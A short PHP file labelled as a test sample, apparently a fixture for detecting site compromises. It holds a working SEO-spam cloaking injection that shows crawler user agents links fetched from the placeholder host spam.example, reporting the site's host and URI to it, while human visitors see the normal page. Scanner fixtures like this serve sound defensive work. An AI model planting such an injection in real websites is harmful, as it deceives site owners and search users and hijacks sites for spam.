<?php
// Test sample: search-engine bots get spam links fetched from a remote host;
// humans get the normal site.
if (preg_match('/googlebot|bingbot|slurp|yandexbot|baiduspider/i', $_SERVER['HTTP_USER_AGENT'])) {
    echo file_get_contents('http://spam.example/links?host=' . urlencode($_SERVER['HTTP_HOST']) . '&uri=' . urlencode($_SERVER['REQUEST_URI']));
}
require __DIR__ . '/index_original.php';
